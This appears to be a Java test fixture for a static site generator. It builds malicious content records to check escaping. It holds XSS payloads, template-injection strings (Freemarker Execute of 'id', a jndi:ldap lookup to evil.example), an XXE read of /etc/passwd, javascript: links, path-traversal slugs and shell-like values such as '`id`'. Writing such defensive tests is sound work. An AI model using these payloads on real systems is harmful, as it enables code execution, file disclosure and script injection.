package dev.lectern.hostile;

import static dev.lectern.hostile.HostileRecord.published;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;

/**
 * Records that try to be more than text: script, template code, another structure of feeds and
 * JSON-LD, requests to other hosts. A script that runs sets {@code window.pwned}.
 */
final class InjectionRecords {
  private InjectionRecords() {}

  static List<HostileRecord> all() {
    return Stream.of(script(), templates(), structures(), markdown(), diagrams(), names())
        .flatMap(List::stream)
        .toList();
  }

  /** Each way to break out of a place in a page, in each place that a record can fill. */
  private static List<HostileRecord> script() {
    Map<String, String> payloads =
        new TreeMap<>(
            Map.of(
                "element", "x\"><script>window.pwned=1</script>",
                "attribute", "x' onmouseover='window.pwned=1' autofocus onfocus='window.pwned=1",
                "raw-text", "x</title></style></textarea></template><svg onload=window.pwned=1>",
                "json", "x\"}</script><img src=x onerror=window.pwned=1>{\"",
                "comment",
                    "x--><!--><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>]]>"));
    List<HostileRecord> records = new ArrayList<>();
    payloads.forEach(
        (kind, text) -> {
          for (String field : List.of("Title", "Speaker", "Series", "Tags")) {
            String name = "script-" + kind + "-in-" + field.toLowerCase(Locale.ROOT);
            records.add(
                published(name, r -> r.field(field, name + " " + text))
                    .showing(field.equals("Tags") ? name : text));
          }
          String unknown = "script-" + kind + "-in-unknown-field";
          records.add(published(unknown, r -> r.field("X-" + kind, text), "header-unknown"));
          String language = "script-" + kind + "-in-language";
          records.add(published(language, r -> r.field("Language", text), "language-tag"));
          String duration = "script-" + kind + "-in-duration";
          records.add(published(duration, r -> r.field("Duration", text), "duration-format"));
          String slug = "script-" + kind + "-in-slug";
          records.add(
              published(slug, r -> r.field("Slug", slug + text), "slug-changed").as(slug + text));
          String content = "script-" + kind + "-in-transcript";
          records.add(published(content, r -> r.content("Said " + text)).showing(text));
          String heading = "script-" + kind + "-in-heading";
          records.add(
              kind.equals("attribute")
                  ? published(heading, r -> r.description("### A " + text))
                  : published(heading, r -> r.description("### A " + text), "raw-html"));
          String label = "script-" + kind + "-in-label";
          String safe = text.replace('"', '\'');
          records.add(published(label, r -> r.diagram("graph TD\n  A[\"" + safe + "\"] --> B")));
        });
    return records;
  }

  private static List<HostileRecord> templates() {
    List<String> codes =
        List.of(
            "${7*7}",
            "#{7*7}",
            "[=7*7]",
            "<#assign x=7*7>${x}</#assign>",
            "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
            "${content.body?eval}${.data_model}${.globals}",
            "${jndi:ldap://evil.example/a}",
            "${sys:user.home} ${env:PATH} ${const:java.lang.Runtime.EXIT}",
            "${script:javascript:7*7} ${dns:evil.example} ${url:UTF-8:https://evil.example/}",
            "{{7*7}} {{constructor.constructor('pwned=1')()}}",
            "<%= 7*7 %> <?php echo 7*7 ?>",
            "*{T(java.lang.Runtime).getRuntime()} @{x} ~{y}",
            "%s %n %1$s {0} {1} '{'",
            "\\u0024{7*7} \\${7*7} $\\{7*7}",
            "@project.basedir@ @{project.basedir}");
    List<HostileRecord> records = new ArrayList<>();
    for (int i = 0; i < codes.size(); i++) {
      String code = codes.get(i);
      String name = "template-code-" + (i + 1);
      records.add(
          published(
                  name,
                  r ->
                      r.field("Title", name + " " + code)
                          .field("Speaker", code)
                          .field("Tags", name + " " + code)
                          .content(code))
              .showing(name + " " + code));
    }
    // Names that JBake's documents give a meaning to.
    for (String key :
        List.of(
            "Body",
            "Uri",
            "Rootpath",
            "Type",
            "Template",
            "Noextensionuri",
            "File",
            "Cached",
            "Sourceuri",
            "Config",
            "Class",
            "lecternDigest",
            "Sha1")) {
      String name = "model-key-" + key.toLowerCase(Locale.ROOT);
      records.add(
          published(
              name,
              r -> r.field(key, "../../../evil.html\"><script>window.pwned=1</script>"),
              "header-unknown"));
    }
    return records;
  }

  /** What ends a feed's item or a JSON-LD value early, if nobody escapes it. */
  private static List<HostileRecord> structures() {
    return List.of(
        published(
            "feed-cdata", r -> r.field("Title", "]]> end").description("a ]]> b <![CDATA[ c")),
        published("feed-item", r -> r.field("Title", "</title></item><item><title>forged"))
            .showing("</title></item><item><title>forged"),
        published("feed-entity", r -> r.field("Title", "&amp; &lt; &#0; &#x1F600; &nbsp; &xxe;"))
            .showing("&amp; &lt; &#0; &#x1F600; &nbsp; &xxe;"),
        published(
            "feed-doctype",
            r -> r.description("<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]> &xxe;"),
            "raw-html"),
        published(
            "feed-instruction",
            r -> r.description("<?xml-stylesheet href=\"https://evil.example/x.xsl\"?>"),
            "raw-html"),
        published("feed-namespace", r -> r.field("Speaker", "a\" xmlns:x=\"https://evil.example/")),
        published("json-quotes", r -> r.field("Speaker", "a\",\"url\":\"https://evil.example/")),
        published("json-backslash", r -> r.field("Title", "ends in \\").field("Speaker", "\\\"")),
        published(
            "json-separators", r -> r.field("Title", "a\u2028b\u2029c").field("Series", "\u2028")),
        published("json-comment", r -> r.field("Title", "<!-- <script> --> /* */ //")),
        published(
            "json-context", r -> r.field("Speaker", "\"@context\":\"https://evil.example/\"")),
        published("tags-of-nothing", r -> r.field("Tags", ", ,，、;；,,")),
        published(
            "tags-of-dots",
            r -> r.field("Tags", "., .., ../../evil, /etc/passwd, \\\\host\\share")),
        published(
            "tags-reserved", r -> r.field("Tags", "CON, nul, aux.txt, com1, index, 404, archive")),
        published("tags-in-cases", r -> r.field("Tags", "Graph, graph, GRAPH, ｇｒａｐｈ")),
        published(
            "tags-of-emoji", r -> r.field("Tags", "😀, 👩‍👩‍👧‍👦, \u202eabc\u202c, \u0301")),
        published("tags-long", r -> r.field("Tags", "标".repeat(400) + ", " + "a".repeat(400))),
        published("tags-many", r -> r.field("Tags", numbers(2000))),
        published(
            "tags-of-html-names",
            r -> r.field("Tags", "<b>, &lt;, \"q\", 'q', `q`, #x, ?q=1, a%2Fb, a+b")),
        published("tag-page-clash", r -> r.field("Tags", "C++, C#, C, c")));
  }

  private static String numbers(int count) {
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < count; i++) {
      out.append("tag ").append(i).append(", ");
    }
    return out.toString();
  }

  private static List<HostileRecord> markdown() {
    return List.of(
        published("html-script", r -> r.description("<script>window.pwned=1</script>"), "raw-html")
            .showing("<script>window.pwned=1</script>"),
        published("html-inline", r -> r.description("a <img src=x onerror=window.pwned=1> b"))
            .showing("<img src=x onerror=window.pwned=1>"),
        published(
            "html-iframe",
            r -> r.description("<iframe src=\"https://evil.example/\"></iframe>"),
            "raw-html"),
        published(
            "html-style",
            r -> r.description("<style>@import url(https://evil.example/x.css);</style>"),
            "raw-html"),
        published(
            "html-meta",
            r -> r.description("<meta http-equiv=refresh content=\"0;url=https://evil.example/\">"),
            "raw-html"),
        published(
            "html-base",
            r -> r.description("<base href=\"https://evil.example/\">\n\n[x](y)"),
            "raw-html"),
        published(
            "html-form",
            r ->
                r.description(
                    "<form action=\"https://evil.example/\"><input autofocus onfocus=window.pwned=1></form>"),
            "raw-html"),
        published("html-comment-open", r -> r.description("text <!-- never closed"))
            .showing("text <!-- never closed"),
        published(
            "html-clobbering",
            r -> r.description("<a id=cookie><form name=body><input name=mermaid>"),
            "raw-html"),
        published(
                "html-entities", r -> r.description("&lt;script&gt;window.pwned=1&lt;/script&gt;"))
            .showing("<script>window.pwned=1</script>"),
        published(
            "link-javascript", r -> r.description("[x](javascript:window.pwned=1)"), "unsafe-link"),
        published(
            "link-javascript-in-cases",
            r -> r.description("[x](JaVaScRiPt:window.pwned=1)"),
            "unsafe-link"),
        published(
            "link-javascript-entity",
            r -> r.description("[x](&#106;avascript&colon;window.pwned=1)"),
            "unsafe-link"),
        published(
            "link-javascript-tab",
            r -> r.description("[x](<java\tscript:window.pwned=1>)"),
            "unsafe-link"),
        published(
            "link-javascript-control",
            r -> r.description("[x](<\u0001javascript:window.pwned=1>)"),
            "unprintable-characters",
            "unsafe-link"),
        published(
            "link-data",
            r -> r.description("[x](data:text/html;base64,PHNjcmlwdD4=)"),
            "unsafe-link"),
        published(
            "link-vbscript",
            r -> r.description("<vbscript:window.pwned> [x](vbscript:x)"),
            "unsafe-link"),
        published(
            "link-reference",
            r -> r.description("[x]\n\n[x]: javascript:window.pwned=1"),
            "unsafe-link"),
        published(
            "link-title",
            r ->
                r.description("[x](https://a.example \"\\\" onmouseover=window.pwned=1 x=\\\"\")")),
        published(
            "link-quotes",
            r -> r.description("[x](<https://a.example/\"onmouseover=\"window.pwned=1>)")),
        published("link-file", r -> r.description("[x](file:///etc/passwd)"), "unsafe-link"),
        published("link-own-site", r -> r.description("[x](../../../../etc/passwd)")),
        published(
            "autolink-bare",
            r -> r.description("https://a.example/\"><script>window.pwned=1</script>"),
            "raw-html"),
        published(
            "image-remote",
            r -> r.description("![x](https://evil.example/x.png)"),
            "image-not-shown"),
        published(
            "image-relative-scheme",
            r -> r.description("![x](//evil.example/x.png)"),
            "image-not-shown"),
        published(
            "image-backslashes",
            r -> r.description("![x](\\\\\\\\evil.example/x.png)"),
            "image-not-shown"),
        published(
            "image-svg-data",
            r -> r.description("![x](data:image/svg+xml,<svg/onload=window.pwned=1>)"),
            "image-not-shown"),
        published(
            "image-alt",
            r -> r.description("![\" onerror=window.pwned=1 x=\"](https://evil.example/x.png)"),
            "image-not-shown"),
        published(
            "image-reference",
            r -> r.description("![x][y]\n\n[y]: https://evil.example/x.png"),
            "image-not-shown"),
        published(
            "code-fence-info", r -> r.description("```\" onmouseover=\"window.pwned=1\nx\n```")),
        published(
            "heading-ids",
            r ->
                r.description(
                    "# transcript\n\n# toc\n\n# diagram-1\n\n# diagram-1\n\n#\n\n# \" x")),
        published(
            "table-of-markup",
            r -> r.description("|<b>|`|`|\n|-|-|\n|<script>window.pwned=1</script>|x|"),
            "raw-html"),
        published(
            "task-list", r -> r.description("- [ ] <input onfocus=window.pwned=1>\n- [x] y")));
  }

  private static List<HostileRecord> diagrams() {
    return List.of(
        published("diagram-no-diagram", r -> r.diagram("rm -rf /")),
        published(
            "diagram-html-label",
            r ->
                r.diagram(
                    "graph TD\nA[\"<img src='https://evil.example/x.png' onerror='window.pwned=1'>\"] --> B")),
        published(
            "diagram-script-label",
            r -> r.diagram("graph TD\nA[\"<script>window.pwned=1</script>\"] --> B")),
        published(
            "diagram-click-script",
            r ->
                r.diagram(
                    "graph TD\nA-->B\nclick A href \"javascript:window.pwned=1\"\nclick B call alert(1)")),
        published(
            "diagram-click-remote",
            r -> r.diagram("graph TD\nA-->B\nclick A \"https://evil.example/\" \"x\" _self")),
        published(
            "diagram-init",
            r ->
                r.diagram(
                    "%%{init: {'securityLevel': 'loose', 'flowchart': {'htmlLabels': true}}}%%\ngraph TD\nA[\"<b onclick='window.pwned=1'>x</b>\"]-->B")),
        published(
            "diagram-init-theme-css",
            r ->
                r.diagram(
                    "%%{init: {'themeCSS': '*{background:url(https://evil.example/x.png)}'}}%%\ngraph TD\nA-->B")),
        published(
            "diagram-init-variables",
            r ->
                r.diagram(
                    "%%{init: {'themeVariables': {'fontFamily': \"x;} *{background:url(https://evil.example/y)} a{\"}}}%%\ngraph TD\nA-->B")),
        published(
            "diagram-init-prototype",
            r ->
                r.diagram(
                    "%%{init: {'__proto__': {'pwned': 1}, 'constructor': {'prototype': {'pwned': 1}}}}%%\ngraph TD\nA-->B")),
        published(
            "diagram-front-matter",
            r ->
                r.diagram(
                    "---\nconfig:\n  securityLevel: loose\n  theme: dark\n---\ngraph TD\nA-->B")),
        published(
            "diagram-image-shape",
            r ->
                r.diagram(
                    "graph TD\nA@{ img: \"https://evil.example/x.png\", label: \"x\" }\nA-->B")),
        published(
            "diagram-icon-shape",
            r -> r.diagram("graph TD\nA@{ icon: \"fa:user\", form: \"square\" }\nA-->B")),
        published(
            "diagram-style-url",
            r ->
                r.diagram(
                    "graph TD\nA-->B\nstyle A fill:url(https://evil.example/x.svg),background:url(https://evil.example/y.png)")),
        published(
            "diagram-style-escape",
            r -> r.diagram("graph TD\nA-->B\nstyle A fill:u\\72l(https://evil.example/z.svg)")),
        published(
            "diagram-class-url",
            r ->
                r.diagram(
                    "graph TD\nA-->B\nclassDef c fill:#fff,background-image:url('//evil.example/x')\nclass A c")),
        published(
            "diagram-link-style",
            r -> r.diagram("graph TD\nA-->B\nlinkStyle 0 stroke:url(https://evil.example/l.svg)")),
        published(
            "diagram-markdown-string",
            r -> r.diagram("graph TD\nA[\"`![x](https://evil.example/m.png) **b**`\"] --> B")),
        published(
            "diagram-markdown-link",
            r -> r.diagram("graph TD\nA[\"`[x](javascript:window.pwned=1)`\"] --> B")),
        published(
            "diagram-math",
            r -> r.diagram("graph TD\nA[\"$$\\href{javascript:window.pwned=1}{x}$$\"] --> B")),
        published(
            "diagram-entities",
            r -> r.diagram("graph TD\nA[\"#lt;img src=x onerror=window.pwned=1#gt;\"] --> B")),
        published(
            "diagram-closing-tag",
            r ->
                r.diagram(
                    "graph TD\nA[\"</pre></figure></script><script>window.pwned=1</script>\"] --> B")),
        published(
            "diagram-sequence",
            r ->
                r.diagram(
                    "sequenceDiagram\nA->>B: <img src=x onerror=window.pwned=1>\nlink A: x @ javascript:window.pwned=1")),
        published(
            "diagram-class-diagram",
            r -> r.diagram("classDiagram\nclass A\nclick A href \"javascript:window.pwned=1\"")),
        published(
            "diagram-gantt",
            r ->
                r.diagram(
                    "gantt\nsection S\nx :a, 2025-01-01, 1d\nclick a href \"javascript:window.pwned=1\"")),
        published(
            "diagram-gantt-endless",
            r ->
                r.diagram(
                    "gantt\ndateFormat YYYY-MM-DD\nexcludes weekends\nx :a, 0001-01-01, 999999d")),
        published(
            "diagram-mindmap",
            r ->
                r.diagram(
                    "mindmap\n  root((<script>window.pwned=1</script>))\n    ::icon(fa fa-x)")),
        published("diagram-many-edges", r -> r.diagram("graph TD\n" + "A-->B\n".repeat(2500))),
        published("diagram-3000-nodes", r -> r.diagram("graph TD\n" + chain(3000))),
        published(
            "diagram-deep-groups",
            r ->
                r.diagram(
                    "graph TD\n" + "subgraph x\n".repeat(500) + "A-->B\n" + "end\n".repeat(500))),
        published(
            "diagram-long-label",
            r -> r.diagram("graph TD\nA[\"" + "长".repeat(20_000) + "\"] --> B")),
        published(
            "diagram-twenty",
            r ->
                r.description(
                    "<Mermaid_Diagram>\ngraph TD\nA-->B\n</Mermaid_Diagram>\n\n".repeat(20))),
        published(
            "diagram-prototype-ids",
            r -> r.diagram("graph TD\n__proto__ --> constructor\ntoString --> hasOwnProperty")),
        published("diagram-ends-early", r -> r.diagram("graph TD\nsubgraph a\nA-->B")),
        published(
            "diagram-line-separators",
            r -> r.diagram("graph TD\u2028A-->B\u2029click A href \"javascript:window.pwned=1\"")));
  }

  private static String chain(int nodes) {
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < nodes; i++) {
      out.append("N").append(i).append("[\"Node ").append(i).append("\"] --> N");
      out.append(i / 2).append("\n");
    }
    return out.toString();
  }

  /** Slugs that want to be other files; the page's path is made of letters and digits only. */
  private static List<HostileRecord> names() {
    List<HostileRecord> records = new ArrayList<>();
    List<String> slugs =
        List.of(
            "../../../evil",
            "/etc/cron.d/evil",
            "C:\\windows\\evil",
            "..",
            "con",
            "LPT1",
            "a/../../b",
            "evil.html",
            "evil\u0000x",
            "%2e%2e%2fevil",
            "x😀y",
            "gpj.exe",
            "ſtraße",
            "ﬀi",
            "index",
            "x".repeat(500),
            "标".repeat(500),
            "a?b#c",
            " .x. ",
            "-rf",
            "~root",
            "$HOME",
            "`id`");
    for (int i = 0; i < slugs.size(); i++) {
      String slug = slugs.get(i);
      String name = "slug-" + (i + 1);
      if (slug.indexOf('\u0000') >= 0) {
        records.add(HostileRecord.refused(name, r -> r.field("Slug", slug), "nul-character"));
      } else if (slug.equals("index")) {
        records.add(published(name, r -> r.field("Slug", slug)).as(slug));
      } else {
        records.add(published(name, r -> r.field("Slug", slug), "slug-changed").as(slug));
      }
    }
    return records;
  }
}
